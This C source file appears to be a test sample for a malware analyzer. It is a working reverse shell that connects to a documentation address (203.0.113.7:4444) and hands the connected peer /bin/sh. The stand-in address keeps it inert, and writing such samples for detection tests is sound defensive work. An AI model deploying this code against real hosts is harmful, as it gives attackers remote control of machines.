/* Test implant: a connect-back ("reverse shell") client. Connects to a documentation
 * address (RFC 5737 TEST-NET-3, 203.0.113.7:4444; the name update.c2.example.net is
 * RFC 2606) and gives the peer /bin/sh. Built for the analyzer tests only; never run it. */
#include "implant.h"

static const char c2_name[] = "update.c2.example.net";
static const char c2_addr[] = "203.0.113.7";

int main(void) {
    struct sockaddr_in sa = {0};
    char *argv[] = {"sh", 0};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    USE_PAD();
    sa.sin_family = AF_INET;
    sa.sin_port = htons(4444);
    SET_ADDR(sa, ip4(203, 0, 113, 7));
    write(2, c2_name, sizeof c2_name - 1);
    write(2, c2_addr, sizeof c2_addr - 1);
    if (connect(s, (void *)&sa, sizeof sa) < 0)
        return 1;
    dup2(s, 0);
    dup2(s, 1);
    dup2(s, 2);
#if defined(VIA_EXECL)
    /* the C library's execl() (static C library builds, see build.sh) */
    (void)argv;
    execl("/bin/sh", "sh", (char *)0);
#elif defined(VIA_SYSTEM)
    /* the C library's system() (static C library builds, see build.sh) */
    (void)argv;
    system("/bin/sh -i");
#else
    execve("/bin/sh", argv, 0);
#endif
    return 0;
}
